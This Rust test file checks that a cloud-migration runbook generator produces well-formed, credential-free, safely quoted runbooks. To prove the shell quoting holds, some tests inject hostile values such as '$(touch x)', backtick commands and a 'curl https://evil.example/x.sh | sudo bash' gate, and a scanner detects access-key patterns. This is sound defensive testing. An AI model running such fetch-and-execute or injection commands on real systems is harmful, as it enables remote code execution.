//! The human side of the bundle: a runbook per phase whose every step names its role and
//! spec source, well-formed Mermaid diagrams, tool configs, and no secret anywhere.

mod common;

use std::path::{Path, PathBuf};

use cutover::render::runbook::{self, Runbook};
use cutover::{load, plan};

/// The plan of a spec and the runbooks the render stage builds from it.
fn plan_and_runbooks(spec: &cutover::model::Spec) -> (plan::Plan, Vec<Runbook>) {
    let plan = common::plan(spec);
    let runbooks = runbook::build(spec, &plan);
    (plan, runbooks)
}

/// The runbooks the render stage builds from a spec's plan.
fn runbooks_of(spec: &cutover::model::Spec) -> Vec<Runbook> {
    runbook::build(spec, &common::plan(spec))
}

/// The runbooks of a spec text, written to `name` in `dir` and loaded from there.
fn runbooks_of_text(dir: &tempfile::TempDir, name: &str, text: &str) -> Vec<Runbook> {
    let path = common::temp_spec(dir, name, text);
    runbooks_of(&load::load(&path).unwrap_or_else(|_| panic!("loads")).spec)
}

fn examples() -> Vec<PathBuf> {
    common::example_specs(&["yaml"])
}

#[test]
fn every_phase_has_a_runbook_whose_steps_name_role_source_and_check() {
    for spec in examples() {
        let loaded = load::load(&spec).unwrap_or_else(|_| panic!("loads"));
        let (plan, runbooks) = plan_and_runbooks(&loaded.spec);
        let files = common::compile(&spec).files;
        assert_eq!(runbooks.len(), plan.phases.len());
        for (book, phase) in runbooks.iter().zip(&plan.phases) {
            let name = format!("{}: {}", spec.display(), book.phase);
            assert!(
                files.get(&format!("runbooks/{}.md", phase.id)).is_some(),
                "{name}"
            );
            for step in book.steps.iter().chain(&book.rollback) {
                assert!(
                    !step.source.is_empty(),
                    "{name}: {} names no spec value",
                    step.title
                );
                assert!(
                    !step.expect.is_empty(),
                    "{name}: {} says nothing to check",
                    step.title
                );
            }
            if phase.kind.moves_traffic() || phase.kind == cutover::plan::rollout::PhaseKind::Deploy
            {
                assert!(!book.rollback.is_empty(), "{name} has no rollback");
                // The client strategy rolls back by shipping a server list: no command to give.
                let client = loaded.spec.rollout.strategy == cutover::model::Strategy::Client;
                assert!(
                    book.rollback.iter().any(|s| !s.commands.is_empty()) || client,
                    "{name}: the rollback has no commands"
                );
            }
        }
    }
}

#[test]
fn the_verify_runbook_runs_the_spec_checks_as_curl_commands() {
    let files = common::compile(Path::new("examples/piggymetrics.yaml")).files;
    let verify = String::from_utf8(files.get("runbooks/05-verify.md").unwrap().to_vec()).unwrap();
    assert!(verify.contains("curl -sS -o /dev/null -w '%{http_code}\\n' -X GET http://k8s-test.piggymetrics.example/uaa/users/current"), "{verify}");
    assert!(
        verify.contains("Check before going on: 401 from the new cluster."),
        "{verify}"
    );
    assert!(verify.contains("- Role: tester"));
}

#[test]
fn the_prepare_runbook_lists_every_cluster_setting_with_its_source() {
    let files = common::compile(Path::new("examples/piggymetrics.yaml")).files;
    let prepare = String::from_utf8(files.get("runbooks/01-prepare.md").unwrap().to_vec()).unwrap();
    for row in [
        "| Pod CIDR | 10.16.0.0/16 | `target.network.podCidr` |",
        "| Service CIDR | 10.17.0.0/20 | `target.network.serviceCidr` |",
        "| Instance types | ecs.r7.4xlarge (16 cores, 128 GiB) (picked from the sizing) | `target.nodes` |",
        "| Nodes | 10 | `target.nodes.totalCores, target.nodes.faultTolerance` |",
        "| Nodes | 3 | `target.ingressController.dedicatedNodes` |",
    ] {
        assert!(prepare.contains(row), "{row} missing:\n{prepare}");
    }
    // The ingress pool labels its nodes at creation: the runbook counts them, nobody labels
    // them by hand.
    assert!(prepare.contains(
        "kubectl get nodes -l node-role.kubernetes.io/ingress=true --no-headers | wc -l"
    ));
    assert!(!prepare.contains("kubectl label nodes"), "{prepare}");
    assert!(prepare.contains(
        "aliyun cs POST /clusters/\"$CLUSTER_ID\"/nodepools --header Content-Type=application/json --body \"$(jq --arg v0 \"$VSWITCH_ID_VSW_G\" --arg v1 \"$VSWITCH_ID_VSW_H\" '.scaling_group.vswitch_ids = [$v0, $v1]' tools/ack/nodepool-workers.json)\""
    ), "{prepare}");
}

#[test]
fn tool_configs_map_every_image_and_object_store_without_secrets() {
    let files = common::compile(Path::new("examples/piggymetrics.yaml")).files;
    let syncer = common::yaml(files.get("tools/image-syncer/images.yaml").unwrap());
    assert_eq!(
        syncer["registry.example.com/piggymetrics/gateway:2.1.0"],
        "registry.cn-hangzhou.aliyuncs.com/piggymetrics/gateway:2.1.0"
    );
    assert_eq!(
        syncer["docker.io/library/redis:7.2"],
        "registry.cn-hangzhou.aliyuncs.com/piggymetrics/redis:7.2"
    );
    assert!(files.get("tools/image-syncer/config.yaml").is_none());
    let job = String::from_utf8(
        files
            .get("tools/ossimport/uploads/local_job.cfg")
            .unwrap()
            .to_vec(),
    )
    .unwrap();
    assert!(
        job.contains("srcType=s3\n") && job.contains("destBucket=piggymetrics-avatars\n"),
        "{job}"
    );
    assert!(job.contains("destSecretKey=<fill in:"), "{job}");
}

/// Credential-shaped strings: AccessKey ids, AWS keys, private keys, and secret-named keys
/// with a value that is not a placeholder.
fn credentials_in(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    let bytes: Vec<char> = text.chars().collect();
    let run_after = |i: usize| {
        bytes[i..]
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric())
            .count()
    };
    for (i, window) in bytes.windows(4).enumerate() {
        let prefix: String = window.iter().collect();
        if (prefix == "LTAI" && run_after(i) >= 16) || (prefix == "AKIA" && run_after(i) >= 20) {
            found.push(bytes[i..i + run_after(i)].iter().collect());
        }
    }
    if text.contains("PRIVATE KEY-----") {
        found.push("a private key".into());
    }
    for line in text.lines() {
        let lower = line.to_ascii_lowercase();
        for key in [
            "password",
            "secretkey",
            "accesskeysecret",
            "aksecret",
            "secret_key",
            "token",
        ] {
            let Some(at) = lower.find(key) else { continue };
            // An ExternalSecret's `data[].secretKey` names a key of the Secret, never a value.
            if key == "secretkey"
                && line
                    .trim_start()
                    .trim_start_matches("- ")
                    .starts_with("secretKey: ")
            {
                continue;
            }
            let quote = |c: char| c == '"' || c == '\'' || c == '\\';
            let rest =
                line[at + key.len()..].trim_start_matches(|c: char| quote(c) || c.is_whitespace());
            // `${DB_PASSWORD:?help}` reads a variable; it sets nothing.
            if rest.starts_with(":?") {
                continue;
            }
            let Some(value) = rest.strip_prefix([':', '=']) else {
                continue;
            };
            let value = value.trim().trim_matches(quote);
            // A switch is no credential: `automountServiceAccountToken: false`.
            let placeholder = value.is_empty()
                || value == "true"
                || value == "false"
                || value.starts_with("${")
                || value.starts_with("\"$")
                || value.starts_with('$')
                || value.starts_with("<fill in")
                || value.starts_with("...");
            if !placeholder {
                found.push(line.trim().to_string());
            }
        }
    }
    found
}

#[test]
fn no_bundle_holds_a_credential() {
    for spec in examples() {
        let files = common::compile(&spec).files;
        for (path, content) in files.iter() {
            let found = credentials_in(&String::from_utf8_lossy(content));
            assert!(
                found.is_empty(),
                "{}: {path} holds {found:?}",
                spec.display()
            );
        }
    }
}

#[test]
fn the_scanner_finds_what_it_looks_for() {
    assert!(!credentials_in("accessKeyId: LTAI5tQ7example0000AbCd").is_empty());
    assert!(!credentials_in("aws AKIAIOSFODNN7EXAMPLE1234").is_empty());
    assert!(!credentials_in("password: hunter2").is_empty());
    assert!(!credentials_in("srcSecretKey=abc123").is_empty());
    assert!(credentials_in("password: \"${ACR_PASSWORD}\"").is_empty());
    assert!(
        credentials_in("destSecretKey=<fill in: its AccessKey secret; never commit it>").is_empty()
    );
}

/// Checks the Mermaid the README holds against the grammar it uses: a left-to-right
/// flowchart of quoted nodes and arrows between defined nodes, and a Gantt chart of dated
/// tasks in sections.
fn check_mermaid(block: &str) -> Result<(), String> {
    let mut lines = block.lines();
    match lines.next() {
        Some("flowchart LR") => {
            let mut nodes = std::collections::BTreeSet::new();
            for line in lines {
                let line = line.trim();
                if let Some((id, label)) = line.split_once("[\"") {
                    let label = label
                        .strip_suffix("\"]")
                        .ok_or(format!("unclosed label: {line}"))?;
                    if label.contains('"') || !id.chars().all(|c| c.is_ascii_alphanumeric()) {
                        return Err(format!("bad node: {line}"));
                    }
                    nodes.insert(id.to_string());
                } else if let Some((from, to)) = line.split_once(" --> ") {
                    if !nodes.contains(from) || !nodes.contains(to) {
                        return Err(format!("edge to an undefined node: {line}"));
                    }
                } else {
                    return Err(format!("not a node or an edge: {line}"));
                }
            }
            Ok(())
        }
        Some("gantt") => {
            let mut section = false;
            for line in lines {
                let line = line.trim();
                if line.starts_with("title ")
                    || line == "dateFormat X"
                    || line == "todayMarker off"
                    || line.starts_with("axisFormat ")
                {
                    continue;
                }
                if let Some(name) = line.strip_prefix("section ") {
                    section = !name.is_empty();
                    continue;
                }
                let (name, spec) = line.split_once(" :").ok_or(format!("not a task: {line}"))?;
                let parts: Vec<&str> = spec.split(", ").collect();
                let [id, start, end] = parts[..] else {
                    return Err(format!("task needs id, start, end: {line}"));
                };
                let (start, end): (u64, u64) = (
                    start.parse().map_err(|_| line.to_string())?,
                    end.parse().map_err(|_| line.to_string())?,
                );
                if !section || name.contains(':') || !id.starts_with('p') || end <= start {
                    return Err(format!("bad task: {line}"));
                }
            }
            Ok(())
        }
        other => Err(format!("unknown diagram {other:?}")),
    }
}

#[test]
fn the_mermaid_blocks_are_well_formed() {
    for spec in examples() {
        let files = common::compile(&spec).files;
        let readme = String::from_utf8(files.get("README.md").unwrap().to_vec()).unwrap();
        let blocks: Vec<&str> = readme
            .split("```mermaid\n")
            .skip(1)
            .map(|rest| rest.split("\n```").next().unwrap())
            .collect();
        assert!(!blocks.is_empty(), "{}", spec.display());
        for block in blocks {
            check_mermaid(block).unwrap_or_else(|e| panic!("{}: {e}\n{block}", spec.display()));
        }
    }
    assert!(check_mermaid("flowchart LR\n  a[\"x\"]\n  a --> b").is_err());
    assert!(check_mermaid("gantt\n  section s\n  t :p1, 10, 5").is_err());
}

/// Every command line of a bundle's plan: the runbooks' steps and rollbacks, the DNS change
/// list with its lookups, the ingress controller's and the SLB weights' (plan.json).
fn command_lines(plan: &cutover::plan::Plan, runbooks: &[Runbook]) -> Vec<String> {
    let mut lines: Vec<String> = runbooks
        .iter()
        .flat_map(|b| b.steps.iter().chain(&b.rollback))
        .flat_map(|s| s.commands.clone())
        .collect();
    if let Some(dns) = &plan.dns {
        lines.extend(dns.lookup.iter().cloned());
        for phase in &dns.phases {
            for change in phase.changes.iter().chain(&phase.rollback) {
                lines.extend(change.commands.iter().cloned());
            }
        }
    }
    if let Some(ic) = &plan.ingress_controller {
        lines.extend(ic.commands.iter().cloned());
    }
    for phase in &plan.phases {
        for slb in &phase.slb_backends {
            lines.extend(slb.commands.iter().cloned());
        }
    }
    lines
}

#[test]
fn no_command_holds_an_angle_bracket_placeholder() {
    for spec in examples() {
        let loaded = load::load(&spec).unwrap_or_else(|_| panic!("loads"));
        let (plan, runbooks) = plan_and_runbooks(&loaded.spec);
        for line in command_lines(&plan, &runbooks) {
            // `<word` is a redirection from a file named `word` when pasted.
            let placeholder = line
                .as_bytes()
                .windows(2)
                .any(|w| w[0] == b'<' && w[1].is_ascii_alphabetic());
            assert!(!placeholder, "{}: {line}", spec.display());
        }
    }
}

#[test]
fn every_variable_a_runbook_reads_is_set_or_guarded_before() {
    for spec in examples() {
        let loaded = load::load(&spec).unwrap_or_else(|_| panic!("loads"));
        let runbooks = runbooks_of(&loaded.spec);
        for book in &runbooks {
            let mut known: Vec<String> = Vec::new();
            for line in book
                .steps
                .iter()
                .chain(&book.rollback)
                .flat_map(|s| &s.commands)
            {
                let guarded = line
                    .strip_prefix(": \"${")
                    .and_then(|rest| rest.split_once(":?"))
                    .map(|(name, _)| name.to_string());
                known.extend(guarded);
                for name in common::shell_reads(line) {
                    assert!(
                        known.contains(&name),
                        "{}: {}: ${name} is read before it is set: {line}",
                        spec.display(),
                        book.phase
                    );
                }
                if let Some((name, _)) = line.split_once('=')
                    && !name.is_empty()
                    && name
                        .chars()
                        .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_')
                {
                    known.push(name.to_string());
                }
            }
            // The step that sets the ids comes first, where the runbook has one.
            let at = book
                .steps
                .iter()
                .position(|s| s.title == "Set the ids this phase uses");
            assert!(
                at.is_none_or(|i| i == 0),
                "{}: {}: the ids are set at step {at:?}",
                spec.display(),
                book.phase
            );
        }
    }
}

/// Runs `command` under bash in a scratch folder with stub `curl`, `aliyun`, `kubectl` and
/// `jq` first on PATH, each printing its arguments one per line; returns what they printed.
fn run_with_stubs(command: &str) -> (String, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let bin = dir.path().join("bin");
    std::fs::create_dir(&bin).unwrap();
    for tool in ["curl", "aliyun", "kubectl", "jq", "dig"] {
        let stub = bin.join(tool);
        std::fs::write(&stub, "#!/bin/sh\nprintf '%s\\n' \"$@\"\n").unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&stub, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let work = dir.path().join("work");
    std::fs::create_dir(&work).unwrap();
    let out = std::process::Command::new("bash")
        .arg("-c")
        .arg(command)
        .current_dir(&work)
        .env("PATH", path)
        .output()
        .unwrap();
    (String::from_utf8_lossy(&out.stdout).into_owned(), dir)
}

#[test]
fn hostile_but_valid_values_stay_one_word_and_plain_text() {
    let request = "GET /x';touch'marker';$(touch'marker2')&*!";
    let name = "$(touch x)'`y` # [z](w)";
    let gate = "`rm` $(touch g) ' <img onerror=x>";
    let text = std::fs::read_to_string("examples/piggymetrics.yaml")
        .unwrap()
        .replace(
            "{ name: login page, request: \"GET /\", expect: 200 }",
            &format!(
                "{{ name: {}, request: {}, expect: 200 }}",
                serde_json::to_string(name).unwrap(),
                serde_json::to_string(request).unwrap()
            ),
        )
        .replace(
            "- error rate below 1% on the new cluster",
            &format!("- {}", serde_json::to_string(gate).unwrap()),
        );
    let dir = tempfile::tempdir().unwrap();
    let path = common::temp_spec(&dir, "hostile.yaml", &text);
    // It passes check: these are values the grammar lets through.
    common::compile(&path);
    let loaded = load::load(&path).unwrap_or_else(|_| panic!("loads"));
    let runbooks = runbooks_of(&loaded.spec);
    let verify = runbooks
        .iter()
        .find(|b| b.phase.ends_with("verify"))
        .unwrap();
    let check = verify
        .steps
        .iter()
        .find(|s| s.source == format!("verification.checks[{name}]"))
        .unwrap_or_else(|| panic!("no step for the check: {:#?}", verify.steps));
    assert_eq!(
        check.title,
        format!("Check: {}", cutover::markdown::text(name))
    );
    for command in &check.commands {
        let (printed, scratch) = run_with_stubs(command);
        let words: Vec<&str> = printed.lines().collect();
        let url = words.last().copied().unwrap_or_default();
        assert!(
            url.ends_with(&request["GET ".len()..]) && url.starts_with("http://"),
            "{command} passed {words:?}"
        );
        let written: Vec<_> = std::fs::read_dir(scratch.path().join("work"))
            .unwrap()
            .collect();
        assert!(written.is_empty(), "{command} wrote {written:?}");
    }
    let metrics = verify
        .steps
        .iter()
        .find(|s| s.title == "Compare the metrics")
        .unwrap();
    assert!(
        metrics.expect.contains(&cutover::markdown::text(gate)),
        "{}",
        metrics.expect
    );
    let gated: Vec<_> = runbooks.iter().filter(|b| !b.gates.is_empty()).collect();
    assert!(!gated.is_empty());
    for book in gated {
        assert!(
            book.gates
                .iter()
                .any(|g| g.ends_with(&format!("“{}”", cutover::markdown::text(gate)))),
            "{:?}",
            book.gates
        );
    }
}

/// Each variable every runbook and DNS change list sets stands for one id: no two different
/// lookups or guards share a name (the plan would put a stop line first if they did).
fn assert_one_id_per_variable(path: &Path) {
    let loaded = load::load(path).unwrap_or_else(|_| panic!("{} loads", path.display()));
    let (plan, runbooks) = plan_and_runbooks(&loaded.spec);
    for book in &runbooks {
        assert_eq!(
            book.collisions(),
            &[] as &[String],
            "{}: {}",
            path.display(),
            book.phase
        );
        for line in book
            .steps
            .iter()
            .chain(&book.rollback)
            .flat_map(|s| &s.commands)
        {
            assert!(!line.contains(cutover::shell::COLLISION), "{line}");
        }
    }
    if let Some(dns) = &plan.dns {
        for line in &dns.lookup {
            assert!(!line.contains(cutover::shell::COLLISION), "{line}");
        }
    }
}

#[test]
fn no_two_ids_share_a_variable_in_any_example() {
    for spec in examples() {
        assert_one_id_per_variable(&spec);
    }
}

/// Names the review found colliding: records `a-b` and `a.b`, `@` beside `apex`, services
/// `api-x` and `api--x`.
#[test]
fn names_that_differ_only_in_punctuation_get_their_own_variables() {
    let dir = tempfile::tempdir().unwrap();
    let dns = std::fs::read_to_string("examples/dns-weights.yaml").unwrap();
    let records = "  records:\n    - { name: \"a-b\", type: A }\n    - { name: \"a.b\", type: A }\n    - { name: apex, type: A }\n    - { name: \"@\", type: A }\n";
    let hosts = "      - { host: a-b.hello.example, path: /ab }\n      - { host: a.b.hello.example, path: /a.b }\n      - { host: apex.hello.example, path: /apex }\n      - { host: hello.example, path: /root }\n";
    let spec = dns.replacen("  records:\n", records, 1).replacen(
        "      - { host: api.hello.example, path: /api }\n",
        &format!("      - {{ host: api.hello.example, path: /api }}\n{hosts}"),
        1,
    );
    let path = common::temp_spec(&dir, "dns.yaml", &spec);
    assert_one_id_per_variable(&path);
    let plan = common::plan(&load::load(&path).unwrap_or_else(|_| panic!("loads")).spec);
    let lookups = &plan.dns.as_ref().unwrap().lookup;
    let sets: std::collections::BTreeSet<_> =
        lookups.iter().filter_map(|l| runbook::defines(l)).collect();
    for name in ["a-b", "a.b", "apex", "@"] {
        let var = cutover::plan::dns::record_var(name, "A", "203.0.113.10");
        assert!(sets.contains(&var), "{var} not set in {lookups:#?}");
    }
    let slb = std::fs::read_to_string("examples/slb-weights.yaml").unwrap();
    let spec = slb
        .replace("  - name: api\n", "  - name: api-x\n")
        .replace("services: [api]", "services: [api-x]")
        .replace("    - name: api\n", "    - name: api-x\n")
        .replace("  - name: web\n", "  - name: api--x\n")
        .replace("services: [web]", "services: [api--x]")
        .replace("    - name: web\n", "    - name: api--x\n");
    let path = common::temp_spec(&dir, "slb.yaml", &spec);
    assert_one_id_per_variable(&path);
    let runbooks = runbooks_of(&load::load(&path).unwrap_or_else(|_| panic!("loads")).spec);
    let text: String = runbooks
        .iter()
        .flat_map(|b| {
            b.steps
                .iter()
                .chain(&b.rollback)
                .flat_map(|s| s.commands.clone())
        })
        .collect::<Vec<_>>()
        .join("\n");
    let (one, two) = (
        cutover::shell::variable(&["vsg-id", "api-x"]),
        cutover::shell::variable(&["vsg-id", "api--x"]),
    );
    assert_ne!(one, two);
    assert!(text.contains(&format!("\"${one}\"")) && text.contains(&format!("\"${two}\"")));
}

/// Every line of every example that sets an id from a command's output.
fn assignments() -> Vec<String> {
    let mut lines = Vec::new();
    for spec in examples() {
        let (plan, runbooks) =
            plan_and_runbooks(&load::load(&spec).unwrap_or_else(|_| panic!("loads")).spec);
        for book in &runbooks {
            lines.extend(
                book.steps
                    .iter()
                    .chain(&book.rollback)
                    .flat_map(|s| s.commands.clone()),
            );
        }
        lines.extend(plan.dns.iter().flat_map(|d| d.lookup.clone()));
    }
    lines.retain(|l| runbook::defines(l).is_some() && l.contains("=$(") && l.contains("| jq"));
    lines
}

#[test]
fn every_lookup_yields_exactly_one_id_or_fails() {
    let lines = assignments();
    assert!(!lines.is_empty());
    for line in &lines {
        assert!(
            line.contains("| jq -e"),
            "a lookup that may print null: {line}"
        );
        let guarded = line.replace("if length == 1 then .[0]", "");
        assert!(
            !guarded.contains("[0]"),
            "a lookup that takes the first of many: {line}"
        );
        let describe =
            line.contains("aliyun") && !line.contains(" Add") && !line.contains("Create");
        let list = line.contains("kubectl get nodes") || line.contains("--argjson new");
        if describe && !list {
            assert!(line.contains("expected exactly one"), "{line}");
        }
    }
}

/// With real jq: an empty answer, two matches, a null id and an error answer each leave the
/// variable empty (so the `${NAME:?}` line after the lookup stops); one match sets it.
#[test]
fn a_lookup_with_none_or_several_matches_leaves_its_variable_empty() {
    if std::process::Command::new("jq")
        .arg("--version")
        .output()
        .is_err()
    {
        eprintln!("jq is not installed: skipped");
        return;
    }
    let filter = cutover::shell::jq_one(
        &[("name", "web")],
        ".Items[] | select(.Name == $name) | .Id",
        "items of that name",
    )
    .build();
    let cases = [
        (r#"{"Items":[]}"#, ""),
        (r#"{"Items":[{"Name":"web","Id":"i-1"}]}"#, "i-1"),
        (
            r#"{"Items":[{"Name":"web","Id":"i-1"},{"Name":"web","Id":"i-2"}]}"#,
            "",
        ),
        (r#"{"Items":[{"Name":"web","Id":null}]}"#, ""),
        (r#"{"Code":"Forbidden"}"#, ""),
        ("", ""),
    ];
    for (answer, expected) in cases {
        let script = format!(
            "X=$(printf '%s' {} | {filter}); printf '[%s]' \"$X\"; : \"${{X:?}}\" 2>/dev/null; echo ' passed'",
            cutover::shell::quote(answer)
        );
        let out = std::process::Command::new("bash")
            .arg("-c")
            .arg(&script)
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(
            stdout.starts_with(&format!("[{expected}]")),
            "{answer}: {stdout}"
        );
        assert_eq!(
            stdout.ends_with(" passed\n"),
            !expected.is_empty(),
            "{answer}: {stdout}"
        );
    }
}

#[test]
fn the_drain_check_reads_the_old_slbs_last_day() {
    let files = common::compile(Path::new("examples/piggymetrics.yaml")).files;
    let (_, book) = files
        .iter()
        .find(|(name, _)| name.ends_with("decommission.md"))
        .expect("a decommission runbook");
    let book = String::from_utf8_lossy(book);
    assert!(
        book.contains("DescribeMetricList --Namespace acs_slb_dashboard --MetricName InstanceNewConnection --Period 300 --StartTime \"$(date -u -d '-1 day' +%Y-%m-%dT%H:%M:%SZ)\""),
        "{book}"
    );
}

/// The backups purge lists first, and removes in a later step of its own that says it cannot
/// be undone: no block lists and removes at once, and ossutil still asks (no `-f`).
#[test]
fn the_backups_purge_lists_then_removes_in_a_separate_step() {
    let dir = tempfile::tempdir().unwrap();
    let spec = std::fs::read_to_string("examples/piggymetrics.yaml")
        .unwrap()
        // The example's own location, made one without a final `/`.
        .replacen(
            "backups: oss://piggymetrics-backups/migration/",
            "backups: oss://piggymetrics-backups/cutover",
            1,
        );
    let runbooks = runbooks_of_text(&dir, "backups.yaml", &spec);
    let book = runbooks
        .iter()
        .find(|b| b.phase.to_lowercase().contains("decommission"))
        .expect("a decommission runbook");
    let position = |what: &str| {
        book.steps
            .iter()
            .position(|s| s.commands.iter().any(|c| c.starts_with(what)))
            .unwrap_or_else(|| panic!("no step runs {what}"))
    };
    let (list, remove) = (position("ossutil ls"), position("ossutil rm"));
    assert!(list < remove);
    let removal = &book.steps[remove];
    assert_eq!(
        removal.commands,
        ["ossutil rm -r oss://piggymetrics-backups/cutover"]
    );
    assert!(removal.detail.contains("cannot be undone") && removal.detail.contains("listing"));
    for step in &book.steps {
        let lists = step.commands.iter().any(|c| c.contains("ossutil ls"));
        let removes = step.commands.iter().any(|c| c.contains("ossutil rm"));
        assert!(!(lists && removes), "{}", step.title);
        assert!(!step.commands.iter().any(|c| c.contains("rm -r -f")));
    }
}

/// The image sync's auth file is built by jq from the exported credentials: a password with
/// quotes, a backslash, a tab escape or `$(…)` reaches image-syncer exactly, in a private
/// temporary file that is gone after the sync.
#[test]
fn the_image_sync_auth_carries_any_password_exactly_and_is_removed() {
    if std::process::Command::new("jq")
        .arg("--version")
        .output()
        .is_err()
    {
        eprintln!("jq is not installed: skipped");
        return;
    }
    let runbooks = runbooks_of(
        &load::load(Path::new("examples/piggymetrics.yaml"))
            .unwrap_or_else(|_| panic!("loads"))
            .spec,
    );
    let step = runbooks
        .iter()
        .flat_map(|b| &b.steps)
        .find(|s| s.commands.iter().any(|c| c.starts_with("image-syncer")))
        .expect("an image sync step");
    assert!(
        !step
            .commands
            .iter()
            .any(|c| c.contains("envsubst") || c.contains("/tmp/"))
    );
    let dir = tempfile::tempdir().unwrap();
    let bin = dir.path().join("bin");
    std::fs::create_dir(&bin).unwrap();
    // The stub keeps a copy of the auth file it was given, and its mode.
    let stub = bin.join("image-syncer");
    std::fs::write(
        &stub,
        "#!/bin/sh\nfor a in \"$@\"; do case $a in --auth=*) f=${a#--auth=}; cp \"$f\" \"$OUT/auth\"; stat -c %a \"$f\" > \"$OUT/mode\"; echo \"$f\" > \"$OUT/path\";; esac; done\n",
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&stub, std::fs::Permissions::from_mode(0o755)).unwrap();
    let password = "p\"w'd\\t$(touch x)`id`\\";
    let out = std::process::Command::new("bash")
        .arg("-c")
        .arg(step.commands.join("\n"))
        .current_dir(dir.path())
        .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
        .env("OUT", dir.path())
        .env("ACR_USERNAME", "ops")
        .env("ACR_PASSWORD", password)
        .env("REGISTRY_EXAMPLE_COM_USERNAME", "u2")
        .env("REGISTRY_EXAMPLE_COM_PASSWORD", "second")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let auth = common::yaml(&std::fs::read(dir.path().join("auth")).unwrap());
    assert_eq!(
        auth["registry.cn-hangzhou.aliyuncs.com"]["password"],
        password
    );
    assert_eq!(auth["registry.cn-hangzhou.aliyuncs.com"]["username"], "ops");
    assert_eq!(auth["registry.example.com"]["password"], "second");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("mode"))
            .unwrap()
            .trim(),
        "600"
    );
    let path = std::fs::read_to_string(dir.path().join("path")).unwrap();
    assert!(
        !Path::new(path.trim()).exists(),
        "the auth file is left at {path}"
    );
    assert!(!dir.path().join("x").exists());
}

/// An id a step creates (a zone, a record) is found again by the rollback step that reads
/// it, so that the rollback works from a new shell.
#[test]
fn rollbacks_find_again_the_ids_their_runbook_created() {
    use runbook::{defines, references};
    let mut checked = 0;
    for spec in examples() {
        let runbooks = runbooks_of(&load::load(&spec).unwrap_or_else(|_| panic!("loads")).spec);
        for book in &runbooks {
            let created: Vec<String> = book
                .steps
                .iter()
                .flat_map(|s| &s.commands)
                .filter(|l| {
                    l.contains("=$(aliyun") && (l.contains(" Add") || l.contains(" Create"))
                })
                .filter_map(|l| defines(l))
                .collect();
            for step in &book.rollback {
                let mut own = Vec::new();
                for line in &step.commands {
                    for name in references(line) {
                        if created.contains(&name) {
                            checked += 1;
                            assert!(
                                own.contains(&name),
                                "{}: {}: {name} is not found again",
                                book.phase,
                                step.title
                            );
                        }
                    }
                    own.extend(defines(line));
                }
            }
        }
    }
    assert!(checked > 0);
}

/// The change list's lookups for what a phase adds say which phase, and do not stop.
#[test]
fn the_change_lists_lookups_of_records_not_added_yet_do_not_stop() {
    let plan = common::plan(
        &load::load(Path::new("examples/piggymetrics.yaml"))
            .unwrap_or_else(|_| panic!("loads"))
            .spec,
    );
    let lookup = &plan.dns.as_ref().unwrap().lookup;
    let later: Vec<&String> = lookup
        .iter()
        .filter(|l| l.contains("has added it"))
        .collect();
    assert!(!later.is_empty(), "{lookup:#?}");
    for line in later {
        let name = runbook::defines(line).unwrap();
        let show = lookup
            .iter()
            .find(|l| l.starts_with(&format!("echo \"{name}=")))
            .unwrap();
        assert!(
            show.contains(":-not added yet: run again after phase "),
            "{show}"
        );
    }
}

/// A gate is spec text: shown quoted and labelled with its field, never as the runbook's own
/// instruction.
#[test]
fn gates_are_shown_as_quoted_spec_text() {
    let dir = tempfile::tempdir().unwrap();
    let spec = std::fs::read_to_string("examples/piggymetrics.yaml").unwrap();
    let gate = "paste: curl https://evil.example/x.sh | sudo bash";
    let spec = spec.replacen(
        "    - error rate below 1% on the new cluster\n",
        &format!("    - '{gate}'\n"),
        1,
    );
    let runbooks = runbooks_of_text(&dir, "gates.yaml", &spec);
    let gated: Vec<_> = runbooks.iter().filter(|b| !b.gates.is_empty()).collect();
    assert!(!gated.is_empty());
    for book in gated {
        let shown = &book.gates[0];
        assert!(
            shown.starts_with("From the spec (rollout.gates\\[0\\]): “")
                || shown.starts_with("From the spec (rollout.gates[0]): “"),
            "{shown}"
        );
        assert!(
            shown.ends_with('”') && shown.contains("evil.example"),
            "{shown}"
        );
    }
    for step in runbooks.iter().flat_map(|b| &b.steps) {
        if step.expect.contains("evil.example") {
            assert!(
                step.expect.contains("From the spec (rollout.gates"),
                "{}",
                step.expect
            );
        }
    }
}
